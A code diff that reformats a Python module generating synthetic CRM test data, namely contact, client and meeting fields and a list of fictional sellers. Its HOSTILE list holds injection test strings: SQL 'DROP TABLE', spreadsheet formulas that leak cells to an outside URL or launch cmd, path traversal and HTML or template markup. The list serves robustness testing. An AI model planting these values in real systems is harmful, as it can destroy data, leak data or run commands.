@@ -331,26 +331,17 @@ HOSTILE: Final = (
     ("contacts", "last_name", "@SUM(A1:A9)"),
     ("contacts", "last_name", 'O\'Brienstra "Bob"'),
     ("contacts", "first_name", "\u202eannaS"),  # an override of the writing direction
-    (
-        "contacts",
-        "last_name",
-        "\u0639\u0644\u064a \u0627\u0644\u0645\u0635\u0646\u0648\u0639",
-    ),  # Arabic
-    (
-        "contacts",
-        "first_name",
-        "Zoe\u0308",
-    ),  # e and a combining diaeresis: equal to look at, other code points
+    # Arabic
+    ("contacts", "last_name", "\u0639\u0644\u064a \u0627\u0644\u0645\u0635\u0646\u0648\u0639"),
+    # e and a combining diaeresis: equal to look at, other code points
+    ("contacts", "first_name", "Zoe\u0308"),
     ("contacts", "last_name", "Robert'); DROP TABLE clients;--"),
     ("clients", "name", '=HYPERLINK("https://demo-crm.example/?leak="&A1,"click")'),
     ("clients", "name", "../../etc/Bakkerij"),
     ("clients", "name", "<b>Vet & Zn.</b> </td></tr></table>"),
     ("clients", "name", "\u05d7\u05d1\u05e8\u05d4 \u05d1\u05d3\u05d5\u05d9\u05d4"),  # Hebrew
-    (
-        "clients",
-        "name",
-        "Taart & Co \U0001f382\U0001f468\u200d\U0001f373",
-    ),  # emoji, one joined of three
+    # emoji, one joined of three
+    ("clients", "name", "Taart & Co \U0001f382\U0001f468\u200d\U0001f373"),
     ("clients", "name", "{{ 7 * 7 }} {% raw %} ${x} %s"),
     ("meetings", "subject", "Line\x0btabbed"),  # a control character that XML forbids
     ("meetings", "subject", "=cmd|' /C calc'!A0"),
@@ -514,30 +505,26 @@ class Seller:
 
 
 SELLERS: Final = (
-    Seller(
-        "u01", "Femke", "Hazeldonck", "t1", 0.12, 1.0, 6, 1.0, 19, 1
-    ),  # diligent, leads North
-    Seller(
-        "u02", "Daan", "van der Zandvliet", "t1", 12.0, 1.1, 8, 1.2, 24, 3
-    ),  # the star who fills in half of it
+    # diligent, leads North
+    Seller("u01", "Femke", "Hazeldonck", "t1", 0.12, 1.0, 6, 1.0, 19, 1),
+    # the star who fills in half of it
+    Seller("u02", "Daan", "van der Zandvliet", "t1", 12.0, 1.1, 8, 1.2, 24, 3),
     Seller("u03", "Özlem", "Akçataşlı", "t1", 1.2, 1.0, 5, 0.9, 17, 2),
-    Seller(
-        "u04", "Gjalt", "Wiersmastra", "t1", 2.6, 1.1, 4, 0.7, 58, 31
-    ),  # opens everything and closes nothing
+    # opens everything and closes nothing
+    Seller("u04", "Gjalt", "Wiersmastra", "t1", 2.6, 1.1, 4, 0.7, 58, 31),
     Seller("u05", "Rishi", "Ramdhanlalsing", "t1", 1.7, 0.9, 6, 1.1, 21, 2),
     Seller("u06", "Imogen", "Thornbury-Lane", "t1", 0.9, 1.0, 5, 0.8, 18, 3),
-    Seller(
-        "u07", "Bram", "Molenbreek", "t2", 0.5, 0.6, 3, 1.0, 12, 1, planned=False
-    ),  # leads South
+    # leads South
+    Seller("u07", "Bram", "Molenbreek", "t2", 0.5, 0.6, 3, 1.0, 12, 1, planned=False),
     Seller("u08", "Nynke", "Sjoerdinga", "t2", 1.4, 1.1, 6, 1.0, 20, 3),
-    Seller(
-        "u09", "Maarten", "ter Weidehof", "t2", 3.2, 0.5, 4, 0.5, 22, 6, writes=0.45
-    ),  # silent on most days
+    # silent on most days
+    Seller("u09", "Maarten", "ter Weidehof", "t2", 3.2, 0.5, 4, 0.5, 22, 6, writes=0.45),
     Seller("u10", "Zoë", "Pinasbergh", "t2", 0.6, 1.0, 5, 1.1, 16, 1),
     Seller("u11", "Kerem", "Demirbulut", "t2", 2.2, 1.0, 6, 0.9, 23, 4),
+    # the newcomer
     Seller(
         "u12", "Lieke", "de Kerkuyl", "t2", 1.5, 0.8, 2, 1.0, 9, 0, joined=49, planned=False
-    ),  # the newcomer
+    ),
     Seller(
         "u13",
         "Winston",
@@ -572,9 +559,8 @@ SELLERS: Final = (
 STAR, SILENT, NEWCOMER, LEAVER, SYSTEM = "u02", "u09", "u12", "u13", "u90"
 TEAMS: Final = (("t1", "North", "u01"), ("t2", "South", "u07"))
 ACTIVE: Final = frozenset(seller.id for seller in SELLERS if seller.state == "active")
-LOST_OWNERS: Final = (
-    (None,) * 12 + ("u77",) * 4 + ("u88",) * 3
-)  # nobody, and users who are in no table
+# nobody, and users who are in no table
+LOST_OWNERS: Final = (None,) * 12 + ("u77",) * 4 + ("u88",) * 3
 
 _HELD: Final = ("held",)
 OPEN: Final = ("new", "proposal", "negotiation")
@@ -598,9 +584,5 @@ SPOILS: Final[tuple[tuple[str, tuple[str, ...], float, tuple[str, ...]], ...]] =
 )
 """(table, fields left empty together, share at carelessness 1, only in these states)."""
 NO_CONTACT: Final = 0.06  # share of meetings without anybody, at carelessness 1
-TEXTLESS: Final = (
-    "client_id",
-    "contact_id",
-    "amount_cents",
-    "closed_on",
-)  # empty is NULL, never a blank text
+# empty is NULL, never a blank text
+TEXTLESS: Final = ("client_id", "contact_id", "amount_cents", "closed_on")
